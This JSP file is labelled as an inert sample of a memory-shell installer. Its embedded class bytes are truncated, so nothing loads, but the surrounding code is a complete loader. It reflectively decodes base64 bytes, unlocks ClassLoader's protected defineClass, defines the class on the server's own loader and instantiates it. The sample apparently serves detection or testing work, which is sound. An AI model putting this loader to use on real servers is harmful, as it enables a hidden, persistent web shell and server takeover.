<%-- inert sample: a memory-shell installer's shape. The class bytes are a truncated header (nothing
     loads), kept in a field and decoded through a decoder found by reflection; ClassLoader's
     protected defineClass is made accessible and called on the server's own loader. --%>
<%!
    static final String BLOB = "yv66vgAAADQAGgoABAAUAQAGPGluaXQ+AQADKClWAQAEQ29kZQAAAAAAAAAAAAAAAA==";
%>
<%
    ClassLoader host = Thread.currentThread().getContextClassLoader();
    byte[] bytes;
    try {
        Class<?> b64 = host.loadClass("java.util.Base64");
        Object dec = b64.getMethod("getDecoder").invoke(null);
        bytes = (byte[]) dec.getClass().getMethod("decode", String.class).invoke(dec, BLOB);
    } catch (ClassNotFoundException old) {
        Class<?> conv = host.loadClass("javax.xml.bind.DatatypeConverter");
        bytes = (byte[]) conv.getMethod("parseBase64Binary", String.class).invoke(null, BLOB);
    }
    java.lang.reflect.Method def = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
    def.setAccessible(true);
    Class<?> made = (Class<?>) def.invoke(host, bytes, 0, bytes.length);
    made.newInstance();
%>
